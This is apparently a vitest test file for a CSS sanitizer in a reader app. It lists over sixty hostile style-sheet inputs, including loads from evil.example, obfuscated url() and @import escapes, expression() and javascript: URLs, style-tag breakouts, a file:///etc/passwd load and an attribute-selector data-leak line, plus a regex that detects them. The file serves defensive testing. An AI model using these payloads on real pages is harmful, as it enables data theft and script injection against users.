import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cleanStyle, isStoredPicture } from "../../../../../src/renderer/features/reader/clean-style.ts";

const PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";

/** Ways of a sheet to load something, to run something in an old browser, or to end its element. */
const ATTACKS: readonly string[] = [
  "body{background:url(http://evil.example/a.png)}",
  "body{background:url( 'http://evil.example/a.png' )}",
  'body{background:url("//evil.example/a.png")}',
  "body{background:URL(https://evil.example/a.png)}",
  "body{background:u\\72l(http://evil.example/a.png)}",
  "body{background:\\75\\72\\6c(http://evil.example/a.png)}",
  "body{background:u\\000072 l(http://evil.example/a.png)}",
  "body{background:ur\\l(http://evil.example/a.png)}",
  "body{background:u\\\nrl(http://evil.example/a.png)}",
  "body{background:url(http://evil.example/a.png",
  "body{background:url(",
  "body{background:url('http://evil.example/a.png",
  "body{background:url(htt\\70://evil.example/a.png)}",
  "body{background:url(/*x*/http://evil.example/a.png)}",
  "body{background:url(data:image/svg+xml;base64,PHN2Zz4=)}",
  "body{background:url(data:text/html;base64,PHNjcmlwdD4=)}",
  `body{background:url(data:image/png;base64,AAAA"),url(http://evil.example/)}`,
  "@import url(http://evil.example/a.css);",
  "@import 'http://evil.example/a.css';",
  '@IMPORT "//evil.example/a.css" screen;',
  "@\\69mport 'http://evil.example/a.css';",
  "@imp\\6f rt 'http://evil.example/a.css';",
  "@import/**/'http://evil.example/a.css';",
  "@charset 'utf-7'; @import 'http://evil.example/';",
  "@font-face{font-family:x;src:url(http://evil.example/a.woff)}",
  "@font-face{font-family:x;src:local(x),url('//evil.example/a.woff')}",
  "@namespace url(http://evil.example/);",
  "@-moz-document url(http://evil.example/){body{color:red}}",
  "body{background:image-set('http://evil.example/a.png' 1x)}",
  "body{background:-webkit-image-set(url(http://evil.example/a.png) 1x)}",
  "body{background:image('http://evil.example/a.png')}",
  "body{background:src('http://evil.example/a.png')}",
  "body{background:-webkit-cross-fade(url(http://evil.example/a.png),url(b),50%)}",
  "body{background:cross-fade('http://evil.example/a.png' 50%, red)}",
  "body{--x:url(http://evil.example/a.png);background:var(--x)}",
  "body{--x:u\\72l(http://evil.example/a.png);background:var(--x)}",
  "li{list-style:square url('http://evil.example/a.png')}",
  "a{cursor:url(http://evil.example/a.cur),auto}",
  "a{content:url(http://evil.example/a.png)}",
  "a{filter:url(http://evil.example/a.svg#f)}",
  "a{mask:url(http://evil.example/a.svg#m);clip-path:url(http://evil.example/b)}",
  "a{border-image:url('http://evil.example/a.png') 30}",
  "a{shape-outside:url(http://evil.example/a.png)}",
  "input[value^='a']{background:url(http://evil.example/?a)}",
  "a{behavior:url(http://evil.example/a.htc)}",
  "a{-moz-binding:url(http://evil.example/a.xml#x)}",
  "a{width:expression(alert(1))}",
  "a{width:ex\\70ression(alert(1))}",
  "a{xss:expre/**/ssion(alert(1));width:expression(1)}",
  "a{background:url(javascript:alert(1))}",
  "a{background:url(java\\script:alert(1))}",
  "a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://evil.example/a')}",
  "a{background:url(app://wirebench/index.html)}",
  "a{background:url(file:///etc/passwd)}",
  "a{background:url(blob:http://evil.example/1)}",
  "a{background:url(ftp://evil.example/)}",
  "a{background:url(ws://evil.example/)}",
  "</style><script>alert(1)</script>",
  "a{content:'</style><img src=x onerror=alert(1)>'}",
  "<!-- a{} --><script>alert(1)</script>",
  "a{content:'\\3c/style\\3e\\3cscript\\3e alert(1)'}",
  `a{background:url("${PIXEL}"),url(http://evil.example/)}`,
  "urlurl(x)(http://evil.example/)",
  "@im@importport 'http://evil.example/';",
  "javajavascript:script:alert(1)",
  "hthttp://tp://evil.example/",
];

/** What no cleaned sheet may hold. A stored picture's own address is taken out before looking. */
function dangersIn(css: string): readonly string[] {
  const rest = css.replaceAll(/url\("data:image\/(?:gif|png);base64,[A-Za-z0-9+/=]+"\)/g, "");
  const signs =
    /url\s*\(|\\|<|:\/\/|\/\/\w|evil\.example|@import|@font-face|expression\s*\(|javascript\s*:|-moz-binding/gi;
  return rest.match(signs) ?? [];
}

describe("a cleaned style", () => {
  test("there are enough ways to try", () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(60);
    // The control: the signs looked for below do stand in what comes in.
    expect(ATTACKS.filter((css) => dangersIn(css).length === 0)).toEqual([]);
  });

  test.each(ATTACKS)("neither loads nor runs nor ends its element: %s", (css) => {
    expect(dangersIn(cleanStyle(css))).toEqual([]);
  });

  test("keeps what only shapes the page, and pictures that are stored in it", () => {
    const css = `h1, p > b{color:#a00;margin:0 auto}@media (min-width:600px){p{columns:2}}`;
    expect(cleanStyle(css)).toBe(css);
    expect(cleanStyle(`p{background:url(${PIXEL}) no-repeat}`)).toBe(
      `p{background:url("${PIXEL}") no-repeat}`,
    );
    expect(cleanStyle("q{content:'\\201C'}")).toBe("q{content:'“'}");
  });

  test("is as clean the second time, whatever was put in", () => {
    const bit = fc.constantFrom(
      ...[
        "url(",
        "u\\72l(",
        "http://x.example",
        "\\",
        "'",
        '"',
        ")",
        "/*",
        "*/",
        "@import",
        "<",
        "//",
        " ",
        "{",
        "}",
      ],
      ...[PIXEL, "\u0000", "expression(", "image-set(", ";", "a:b", "javascript:", "0"],
    );
    fc.assert(
      fc.property(fc.array(bit, { maxLength: 40 }), (bits) => {
        const once = cleanStyle(bits.join(""));
        expect(dangersIn(once)).toEqual([]);
      }),
      { seed: 7, numRuns: 3000 },
    );
  });
});

describe("a stored picture", () => {
  test("is pixels in the file itself", () => {
    expect(isStoredPicture(PIXEL)).toBe(true);
    for (const address of [
      "data:image/svg+xml;base64,PHN2Zz4=",
      "data:image/png,<svg>",
      "data:text/html;base64,AAAA",
      "http://x.example/a.png",
      "image.png",
      " javascript:alert(1)",
    ]) {
      expect(isStoredPicture(address)).toBe(false);
    }
  });
});
